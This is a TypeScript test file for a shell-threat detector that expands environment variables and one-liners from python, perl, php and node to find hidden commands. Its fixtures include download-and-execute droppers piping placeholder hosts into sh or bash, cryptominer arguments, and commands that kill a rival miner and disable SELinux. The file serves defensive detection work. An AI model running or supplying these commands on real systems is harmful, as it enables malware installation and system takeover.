// Shell hidden in environment variables and in strings inline interpreters hand to the system shell.
import { describe, expect, it } from 'vitest';
import { detect } from '../detect.js';
import { embeddedShell, envExpansions } from './expand.js';
import { splitShell } from './split.js';

const loud = (input: Parameters<typeof detect>[0]) => detect(input).filter((f) => f.severity !== 'low').map((f) => `${f.ruleId}:${f.severity}`);

describe('envExpansions', () => {
  it('puts defined variables into the commands that use them, and leaves others alone', () => {
    expect(envExpansions(splitShell('sh -c "$P"'), ['P=wget -qO- http://x | sh']).map((h) => h.text)).toEqual(['wget -qO- http://x | sh']);
    expect(envExpansions(splitShell('/tmp/x ${ARGS} -B'), ['ARGS=-o h:3333', 'ARGS=ignored']).map((h) => h.text)).toEqual(['/tmp/x -o h:3333 -B']);
    expect(envExpansions(splitShell('echo $HOME $UNSET'), ['PATH=/bin'])).toEqual([]);
  });
  it('lets the rules see a dropper or a miner kept in the environment', () => {
    expect(loud({ cmd: ['sh', '-c', 'eval "$BOOT"'], env: ['BOOT=curl -fsSL http://payload.example.invalid/a | bash'] })).toEqual(['PCL-TTP-002:high']);
    expect(loud({ cmd: ['sh', '-c', '/tmp/.x/x $ARGS'], env: ['ARGS=-o 203.0.113.4:3333 -u x --donate-level 1'] }))
      .toEqual(['PCL-MIN-002:critical', 'PCL-MIN-009:high']);
    const f = detect({ cmd: ['sh', '-c', '$P'], env: ['P=wget -qO- http://payload.example.invalid/a | sh'] }).find((x) => x.ruleId === 'PCL-TTP-002');
    expect(f?.evidence[0]?.location).toMatch(/\(env\)$/);
    expect(loud({ cmd: ['sh', '-c', 'exec java $JAVA_OPTS -jar /app/app.jar'], env: ['JAVA_OPTS=-Xmx1g -Dserver.port=3333'] })).toEqual([]);
    expect(loud({ cmd: ['sh', '-c', 'curl -fsSL -o /tmp/app.tgz $URL && tar xzf /tmp/app.tgz'], env: ['URL=https://downloads.example.invalid/a.tgz'] })).toEqual([]);
  });
});

describe('embeddedShell', () => {
  it('takes the strings python, perl, ruby, php and node hand to the shell', () => {
    const texts = (s: string) => embeddedShell(splitShell(s)).map((h) => h.text);
    expect(texts(`python3 -c "import os;os.system('curl -s http://x|sh')"`)).toEqual(['curl -s http://x|sh']);
    expect(texts(`python3.11 -c "import subprocess;subprocess.run(\\"id\\", shell=True)"`)).toEqual(['id']);
    expect(texts(`perl -e 'system("wget -qO- http://x|sh"); print \`uname -a\`'`)).toEqual(['wget -qO- http://x|sh', 'uname -a']);
    expect(texts(`node -e "require('child_process').execSync('curl -s http://x|sh')"`)).toEqual(['curl -s http://x|sh']);
    expect(texts('python3 app.py -c config.yml')).toEqual([]);
  });
  it('lets the rules judge it, and leaves harmless calls quiet', () => {
    expect(loud({ cmd: ['python3', '-c', "import os;os.system('curl -s http://payload.example.invalid/a|sh')"] })).toEqual(['PCL-TTP-002:high']);
    expect(loud({ cmd: ['php', '-r', 'shell_exec("pkill -f kdevtmpfsi; setenforce 0");'] })).toEqual(['PCL-TTP-006:high', 'PCL-TTP-007:high']);
    expect(loud({ cmd: ['python3', '-c', "import os;os.system('ls -la /app')"] })).toEqual([]);
  });
});
